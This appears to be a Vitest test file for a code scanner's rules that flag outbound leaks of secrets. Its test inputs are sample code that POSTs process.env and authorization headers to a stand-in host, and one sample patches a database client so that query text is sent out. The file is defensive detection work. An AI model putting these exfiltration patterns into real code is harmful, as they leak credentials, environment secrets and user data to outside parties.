import { expect, it } from 'vitest';
import { rulesIn } from '../../support/rules-in.js';

it.each([
  ['a spread object', '{ at: 1, ...{ all: [Object.assign({}, process.env)] } }'],
  [
    'spread objects inside each other',
    '{ a: { ...{ ...{ all: { env: Object.assign({}, process.env) } } } } }',
  ],
])('finds what %s holds', async (_, data) => {
  const code = `fetch('https://c.example.invalid', { method: 'POST', body: JSON.stringify(${data}) });`;
  expect(await rulesIn(code)).toContain('code/environment-sent');
});

it('finds a body among options that are spread', async () => {
  const code = `exports.f = ({ headers: { authorization } }) => {
    const body = { body: JSON.stringify({ authorization }) };
    return fetch('https://c.example.invalid', { method: 'POST', ...body });
  };`;
  expect(await rulesIn(code)).toContain('code/request-credential-sent');
});

it('knows headers among options that are spread', async () => {
  const code = `exports.f = ({ headers: { authorization } }) => {
    const given = { headers: { authorization } };
    return fetch('https://c.example.invalid', { method: 'POST', ...given });
  };`;
  expect(await rulesIn(code)).not.toContain('code/request-credential-sent');
});

it('ends where objects are spread in themselves', async () => {
  const code = `let a = { x: 1 }; for (;;) { a = { ...a, b: { ...a } }; fetch('https://c.example.invalid', a); }`;
  expect(await rulesIn(code)).not.toContain('code/environment-sent');
});

it('takes no name in the body of a request for its address', async () => {
  const code = (address: string): string => `exports.trace = (endpoint, driver) => {
    const { query } = driver.Client.prototype;
    driver.Client.prototype.query = function (...args) {
      fetch(${address}, { method: 'POST', body: JSON.stringify({ name: 'pg.query', text: args[0] }) });
      return query.apply(this, args);
    };
  };`;
  expect(await rulesIn(code("'https://c.example.invalid'"))).toContain('code/request-hook');
  expect(await rulesIn(code('endpoint'))).not.toContain('code/request-hook');
});
